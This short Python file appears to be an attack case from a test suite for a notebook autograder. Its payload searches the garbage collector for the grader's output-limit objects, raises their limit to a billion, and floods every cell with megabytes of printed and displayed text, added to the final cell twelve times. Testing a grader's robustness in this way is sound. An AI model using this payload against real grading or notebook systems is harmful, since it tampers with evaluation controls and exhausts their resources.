"""Let every cell show as many megabytes as the limits of one cell allow."""

from autograder.attacks.course import last

HEAVY = """
import gc

for outputs in [o for o in gc.get_objects() if type(o).__name__ == "Outputs"]:
    outputs.room = 10**9
print("x" * 1_900_000)
for _ in range(6):
    display("y" * 1_900_000)
"""


def submission(nb, folder):
    for _ in range(12):
        last(nb, HEAVY)
